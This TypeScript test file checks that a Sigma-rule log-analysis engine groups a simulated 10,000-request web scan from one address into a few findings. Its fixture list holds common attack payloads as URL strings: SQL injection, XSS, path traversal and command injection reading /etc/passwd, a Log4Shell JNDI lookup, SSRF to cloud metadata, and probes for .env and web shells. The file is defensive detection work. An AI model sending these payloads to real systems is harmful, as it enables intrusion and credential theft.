import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Engine } from '../../../src/analyze/engine.ts';
import type { Finding, LogRecord } from '../../../src/model/envelope.ts';
import { builtInRules, loadRules } from '../../../src/sigma/load.ts';
import { request } from '../../support/records.ts';

const rules = await loadRules([builtInRules]);

/** What a scanner with all its plug-ins asks for. */
const attacks = [
  '/?id=1%27%20UNION%20SELECT%201,2--',
  '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/?file=../../../../etc/passwd',
  '/?host=;cat%20/etc/passwd',
  '/?x=$%7Bjndi:ldap://192.0.2.1/a%7D',
  '/?a=%7B%7B7*7%7D%7D',
  '/?to=%0d%0aSet-Cookie:x=1',
  '/?url=http://169.254.169.254/latest/meta-data/',
  '/.env',
  '/.git/config',
  '/c99.php',
  '/?author=1',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
];

function scan(entries: number): readonly LogRecord[] {
  return Array.from({ length: entries }, (_, number) => {
    const target = number % 3 === 0 ? (attacks[(number / 3) % attacks.length] ?? '/') : `/dir${number}/page.php`;
    const status = [404, 403, 404, 400][number % 4] ?? 404;
    return {
      ...request(target, status, '203.0.113.5'),
      timestamp: new Date(Date.UTC(2026, 10, 22, 13) + number * 250).toISOString(),
      user_agent: { original: number % 5 === 0 ? 'sqlmap/1.8' : 'Mozilla/5.0' },
    };
  });
}

function found(records: readonly LogRecord[]): readonly Finding[] {
  const findings = new Map<string, Finding>();
  const engine = new Engine(rules, { now: () => new Date(0), emit: (finding) => findings.set(finding.id, finding) });
  for (const entry of records) engine.take(entry);
  engine.end();
  return [...findings.values()];
}

describe('a scan by one address', () => {
  const findings = found(scan(10_000));

  it('of ten thousand requests with all kinds of attack makes five findings at most', () => {
    assert.ok(findings.length <= 5, findings.map(({ rule }) => rule.name).join());
  });

  it('is told as what it is, with the number of its requests', () => {
    const whole = findings.find(({ rule }) => rule.name === 'lp.web_attack');
    assert.equal(whole?.entity.value, '203.0.113.5');
    assert.ok((whole?.count ?? 0) > 9_000 && (whole?.count ?? 0) <= 10_000, String(whole?.count));
    assert.ok((whole?.evidence.length ?? 0) <= 10);
  });

  it('is not told as such when it is of one kind', () => {
    const sql = scan(3_000).filter(
      ({ url, user_agent: agent }) => url?.original?.includes('UNION') && agent?.original === 'Mozilla/5.0',
    );
    assert.deepEqual(
      found(sql).map(({ rule }) => rule.name),
      ['lp.web_sqli'],
    );
  });

  it('does not hide what somebody else does', () => {
    const other = {
      ...request('/?id=1%27%20UNION%20SELECT%201,2--', 404, '198.51.100.9'),
      timestamp: '2026-11-22T13:20:00.000Z',
    };
    const names = found([...scan(5_000), other]).filter(({ entity }) => entity.value === '198.51.100.9');
    assert.deepEqual(
      names.map(({ rule }) => rule.name),
      ['lp.web_sqli'],
    );
  });
});
